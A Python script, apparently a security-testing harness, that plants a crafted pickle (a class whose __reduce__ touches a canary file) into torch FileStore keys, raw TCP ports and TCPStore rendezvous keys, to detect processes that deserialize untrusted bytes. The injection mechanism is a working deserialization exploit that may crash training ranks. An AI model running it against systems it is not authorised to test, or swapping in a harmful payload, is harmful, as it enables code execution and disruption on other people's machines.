"""Plant a pickle wherever a run reads bytes that a stranger may have written: in every key of its
stores, and into every port.

    python planting.py CANARY FILE... ADDRESS:PORT...

A process that unpickles it creates the file CANARY.
"""

import os
import pickle
import socket
import struct
import sys
import threading
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

WAIT_S = 3.0
# Keys under which torch's rendezvous, stores and process groups store values.
KEYS = (
    "/rdzv/state",
    "torch.rendezvous.none",
    "default_pg/0//cpu//0",
    "default_pg/0//cpu//1",
    "store_based_barrier_key:1",
)


class Evil:
    """An object whose unpickling creates the file `canary`."""

    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[object, tuple[str, ...]]:
        return (Path.touch, (Path(self.canary),))  # type: ignore[return-value]


def into_file(path: Path, payload: bytes) -> int:
    """Overwrite every key of a torch FileStore with the payload, and return how many keys it had.

    The file is a list of lengths, keys and values in which the last value of a key counts; KEYS are
    added.
    """
    raw, at, keys = path.read_bytes(), 0, []
    while at < len(raw):
        parts = []
        for _ in range(2):
            (size,) = struct.unpack_from("<i", raw, at)
            parts.append(raw[at + 4 : at + 4 + size])
            at += 4 + size
        keys.append(parts[0])
    with path.open("ab") as file:
        for key in {*keys, *(f"/{name}".encode() for name in KEYS)} - {b"refcount/"}:
            file.write(
                struct.pack("<i", len(key)) + key + struct.pack("<i", len(payload)) + payload
            )
    return len(keys)


def into_ports(places: list[str], payload: bytes) -> dict[str, int]:
    """Send the payload to each `address:port`: plain, and behind its length in the forms that
    libraries use; then as a client of torch's TCPStore.

    Returns how many times it was sent to each. All ports are tried at once: a rank that a stranger
    has talked to may end, and the others with it.
    """
    sent = dict.fromkeys(places, 0)
    there = [(place, socket.create_connection(_address(place), WAIT_S)) for place in places]
    for head in (
        b"",
        struct.pack("<q", len(payload)),
        struct.pack(">q", len(payload)),
        struct.pack("<i", len(payload)),
    ):
        for place, one in there:
            with suppress(OSError):
                one.sendall(head + payload)
                sent[place] += 1
        there = [(place, again) for place in places for again in _again(place)]
    clients = [
        threading.Thread(target=_set, args=(place, payload), daemon=True) for place in places
    ]
    for client in clients:
        client.start()
    for client in clients:
        # where no store answers, torch's client waits longer than its timeout
        client.join(WAIT_S)
    return sent


def _set(place: str, payload: bytes) -> None:
    """Set every key of KEYS in a TCPStore to the payload; an address where no store answers is
    skipped.
    """
    import torch.distributed as dist

    with suppress(RuntimeError):
        store = dist.TCPStore(*_address(place), None, False, timeout=timedelta(seconds=WAIT_S))  # type: ignore[attr-defined]
        for key in KEYS:
            store.set(key, payload)


def _again(place: str) -> list[socket.socket]:
    """Return a new connection in a list; an empty list if there is none any more."""
    with suppress(OSError):
        return [socket.create_connection(_address(place), WAIT_S)]
    return []


def _address(place: str) -> tuple[str, int]:
    """Return host and port of `address:port`."""
    address, _, port = place.rpartition(":")
    return address, int(port)


def main(canary: str, *places: str) -> None:
    """Plant the pickle in each target, and print the target and how many times it was planted."""
    payload = pickle.dumps(Evil(canary))
    for path in [place for place in places if place.startswith("/")]:
        print(path, into_file(Path(path), payload))
    for place, times in into_ports(
        [place for place in places if not place.startswith("/")], payload
    ).items():
        print(place, times)


if __name__ == "__main__":
    main(*sys.argv[1:])
    sys.stdout.flush()
    os._exit(0)  # without waiting for clients that still wait
